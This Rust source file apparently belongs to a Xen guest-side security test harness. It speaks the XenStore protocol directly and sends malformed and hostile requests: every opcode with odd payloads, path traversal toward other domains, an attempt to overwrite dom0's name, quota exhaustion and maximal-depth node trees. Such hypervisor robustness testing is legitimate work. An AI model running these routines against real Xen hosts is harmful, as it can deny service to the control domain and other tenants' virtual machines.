//! The protocol of XenStore, spoken badly.

use pv_guest_lib::abi::hvm::Param;
use pv_guest_lib::abi::xs_wire::{XsOp, interface};

use crate::Attacker;
use crate::rings::{notify, ring};
use crate::sys::{Scratch, millisecond, now};

/// A connection without a library: one request, one answer.
pub struct Connection {
    page: Scratch,
    port: u64,
}

/// What an answer is: the operation, or [`XsOp::Error`].
pub struct Answer {
    /// Its number on the wire.
    pub op: u32,
}

impl Connection {
    /// The connection that the tool stack made.
    pub fn open() -> Option<Self> {
        ring(Param::StorePfn, Param::StoreEvtchn).map(|(page, port)| Self { page, port })
    }

    /// Puts bytes into the ring as there is room; gives up after a second.
    pub fn send(&self, attacker: &Attacker, bytes: impl Iterator<Item = u8>) -> bool {
        let until = now() + 1000 * millisecond();
        let mut producer = self.page.get32(interface::REQ_PROD as u64);
        for byte in bytes {
            while producer.wrapping_sub(self.page.get32(interface::REQ_CONS as u64)) >= 1024 {
                self.publish(attacker, producer);
                if now() > until {
                    return false;
                }
                pv_guest_lib::hypercall::yield_now();
            }
            self.page.fill(u64::from(producer & 1023), &[byte]);
            producer = producer.wrapping_add(1);
        }
        self.publish(attacker, producer);
        true
    }

    /// Writes a node in a directory; false if that was refused.
    pub fn write(&self, attacker: &Attacker, directory: &[u8], key: &[u8], value: &[u8]) -> bool {
        let answer = self.ask(attacker, XsOp::Write, 0, &[directory, key, b"\0", value]);
        answer.is_some_and(|answer| answer.op == XsOp::Write.raw())
    }

    fn publish(&self, attacker: &Attacker, producer: u32) {
        self.page.set32(interface::REQ_PROD as u64, producer);
        notify(attacker, self.port);
    }

    fn take(&self, attacker: &Attacker) -> Option<u8> {
        let until = now() + 500 * millisecond();
        let consumer = self.page.get32(interface::RSP_CONS as u64);
        while self.page.get32(interface::RSP_PROD as u64) == consumer {
            if now() > until {
                return None;
            }
            pv_guest_lib::hypercall::yield_now();
        }
        let byte = self.page.get8(interface::RSP as u64 + u64::from(consumer & 1023));
        self.page.set32(interface::RSP_CONS as u64, consumer.wrapping_add(1));
        if consumer.is_multiple_of(256) {
            notify(attacker, self.port);
        }
        Some(byte)
    }

    /// The next message, a watch event or an answer.
    pub fn receive(&self, attacker: &Attacker) -> Option<Answer> {
        let mut header = [0; 4];
        for word in &mut header {
            let mut bytes = [0; 4];
            for byte in &mut bytes {
                *byte = self.take(attacker)?;
            }
            *word = u32::from_le_bytes(bytes);
        }
        let [op, _, _, length] = header;

        for _ in 0..length {
            self.take(attacker)?;
        }
        notify(attacker, self.port);
        Some(Answer { op })
    }

    /// A whole message without waiting for the answer.
    pub fn post(&self, attacker: &Attacker, op: u32, transaction: u32, payload: &[&[u8]]) -> bool {
        let length = u32::try_from(payload.iter().map(|part| part.len()).sum::<usize>()).unwrap_or(u32::MAX);
        let header = [op, 7, transaction, length].into_iter().flat_map(u32::to_le_bytes);
        self.send(attacker, header.chain(payload.iter().flat_map(|part| part.iter().copied())))
    }

    /// A request and its answer; events that come first are dropped.
    pub fn ask(&self, attacker: &Attacker, op: XsOp, transaction: u32, payload: &[&[u8]]) -> Option<Answer> {
        if !self.post(attacker, op.raw(), transaction, payload) {
            return None;
        }
        (0..64).find_map(|_| self.receive(attacker).filter(|answer| answer.op != XsOp::WatchEvent.raw()))
    }
}

/// Every operation, known or not, with payloads of every kind; last a message that is longer than any may be.
pub fn garbage(attacker: &mut Attacker) -> u64 {
    let Some(connection) = Connection::open() else { return u64::MAX };
    let mut answered = 0;
    let long = [b'/'; 3200];
    let deep: [u8; 2000] = core::array::from_fn(|at| if at % 2 == 0 { b'a' } else { b'/' });
    let odd: [&[&[u8]]; 21] = [
        &[],
        &[b"\0"],
        &[b"\0\0\0"],
        &[b"no end"],
        &[b"/\0"],
        &[b"//\0"],
        &[b"/local/domain/0/../1\0"],
        &[b"/local/domain/0/name\0", b"mine now"],
        &[b"/tool\0"],
        &[b"@releaseDomain\0", b"token\0"],
        &[b"data/\xFF\xFE\0", b"x"],
        &[b"data\0", b"n4294967295\0", b"w0\0"],
        &[b"data\0", b"b-1\0"],
        &[b"data\0", b"99999999999999999999\0"],
        &[&long, b"\0"],
        &[&deep, b"\0"],
        &[b"0\0", b"1\0", b"2\0"],
        // Its own nodes, some of which others read.
        &[b"control/shutdown\0"],
        &[b"device/vbd/51712/state\0", b"n0\0"],
        &[b"device\0", b"n7\0", b"w9\0"],
        &[b"data\0"],
    ];
    for op in (0..26).chain([127, 0xFFFF, 0x8000_0000, u32::MAX]) {
        for payload in odd {
            for transaction in [0, 1, 77, u32::MAX] {
                if !connection.post(attacker, op, transaction, payload) {
                    return answered;
                }
                // One of them may be answered by more than one message: watches have events.
                answered +=
                    u64::from(connection.receive(attacker).is_some_and(|answer| answer.op != XsOp::Error.raw()));
            }
        }
    }
    while connection.receive(attacker).is_some() {
        answered += 1 << 32;
    }
    answered
}

/// Nodes, watches, transactions and unread answers until the store says no; then a message that is too long.
pub fn quotas(attacker: &mut Attacker) -> u64 {
    let Some(connection) = Connection::open() else { return u64::MAX };
    let counted = |op: XsOp, most: u32, tail: &[u8]| {
        (0..most).find(|number| {
            let mut name = *b"data/000000\0";
            for (place, digit) in name.iter_mut().skip(5).take(6).zip([100_000, 10_000, 1000, 100, 10, 1]) {
                *place = b'0' + (number / digit % 10) as u8;
            }
            let answer = if op == XsOp::TransactionStart {
                connection.ask(attacker, op, 0, &[b"\0"])
            } else {
                connection.ask(attacker, op, 0, &[&name, tail])
            };
            answer.is_none_or(|answer| answer.op == XsOp::Error.raw())
        })
    };
    let nodes = counted(XsOp::Write, 3000, &[b'x'; 300]).unwrap_or(0xFFFF);
    let watches = counted(XsOp::Watch, 1000, b"token\0").unwrap_or(0xFFFF);
    let transactions = counted(XsOp::TransactionStart, 100, b"").unwrap_or(0xFFFF);
    // Nobody reads the answers to these.
    let mut unread = 0u32;
    while unread < 20_000 && connection.post(attacker, XsOp::Directory.raw(), 0, &[b"data\0"]) {
        unread += 1;
    }
    let too_long = [XsOp::Write.raw(), 1, 0, u32::MAX].into_iter().flat_map(u32::to_le_bytes);
    connection.send(attacker, too_long.chain([b'x'; 64]));
    u64::from(nodes) | u64::from(watches) << 16 | u64::from(transactions) << 32 | u64::from(unread) << 48
}

/// Makes the deepest chain of nodes that a path can name, and leaves it behind with a watch on each end.
pub fn deep_tree(attacker: &mut Attacker) -> u64 {
    let Some(connection) = Connection::open() else { return u64::MAX };
    let mut made = 0;
    for length in [2038, 1500, 1000, 500] {
        let path: [u8; 2038] = core::array::from_fn(|at| if at % 2 == 0 { b'/' } else { b'a' });
        let path = path.get(..length).unwrap_or(&path);
        for op in [XsOp::Mkdir, XsOp::Write, XsOp::Watch] {
            let tail: &[u8] = if op == XsOp::Watch { b"deep\0" } else { b"" };
            let answer = connection.ask(attacker, op, 0, &[b"data", path, b"\0", tail]);
            made += u64::from(answer.is_some_and(|answer| answer.op == op.raw()));
        }
    }
    made
}

/// A number in decimal.
pub fn number(value: u64, digits: &mut [u8; 5]) -> &[u8] {
    for (place, power) in digits.iter_mut().zip([10_000, 1000, 100, 10, 1]) {
        *place = b'0' + (value / power % 10) as u8;
    }
    let zeros = digits.iter().take(4).take_while(|digit| **digit == b'0').count();
    digits.get(zeros..).unwrap_or(b"0")
}
